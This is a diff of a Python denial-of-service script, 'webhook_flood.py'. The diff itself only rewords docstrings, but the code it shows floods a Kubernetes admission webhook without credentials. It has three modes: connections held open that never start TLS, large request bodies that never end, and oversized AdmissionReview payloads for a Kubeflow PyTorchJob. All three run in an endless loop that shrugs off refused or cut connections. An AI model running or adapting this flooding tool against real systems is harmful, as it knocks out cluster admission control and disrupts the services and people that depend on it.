@@ -1,4 +1,4 @@
-"""Keeps a webhook as busy as it can, without credentials: `python webhook_flood.py PORT ADDRESS KIND`; it says `flooding` first."""
+"""Flood a webhook without credentials: `python webhook_flood.py PORT ADDRESS KIND`. It prints `flooding` first."""
 
 import contextlib
 import socket
@@ -24,7 +24,7 @@ def opened(port: int, address: str, *, tls: bool) -> socket.socket:
 
 
 def silent(port: int, address: str) -> Iterator[None]:
-    """Connections that never begin to speak TLS, many at a time and new ones all the time."""
+    """Open connections that never begin to speak TLS, many at a time and new ones all the time."""
     held: list[socket.socket] = []
     while True:
         held = [*held[-CONNECTIONS // THREADS :], opened(port, address, tls=False)]
@@ -32,7 +32,7 @@ def silent(port: int, address: str) -> Iterator[None]:
 
 
 def slow(port: int, address: str) -> Iterator[None]:
-    """Large bodies that never end."""
+    """Send large bodies that never end."""
     held: list[socket.socket] = []
     while True:
         one = opened(port, address, tls=True)
@@ -42,7 +42,7 @@ def slow(port: int, address: str) -> Iterator[None]:
 
 
 def large(port: int, address: str) -> Iterator[None]:
-    """Reviews that take long to read."""
+    """Send reviews that take long to read."""
     kind = b'{"group":"kubeflow.org","version":"v1","kind":"PyTorchJob"}'
     start, end = b'{"request":{"uid":"u","kind":%s,"operation":"CREATE","object":{"a":[' % kind, b"1]}}}"
     body = start + b"[]," * ((LARGE - len(start) - len(end)) // 3) + end
@@ -54,7 +54,7 @@ def large(port: int, address: str) -> Iterator[None]:
 
 
 def keep_on(kind: str, port: int, address: str) -> None:
-    """That a connection is refused or cut off stops nobody."""
+    """Flood for ever. Connections that are refused or cut off do not stop it."""
     while True:
         with contextlib.suppress(OSError):
             for _ in {"silent": silent, "slow": slow, "large": large}[kind](port, address):
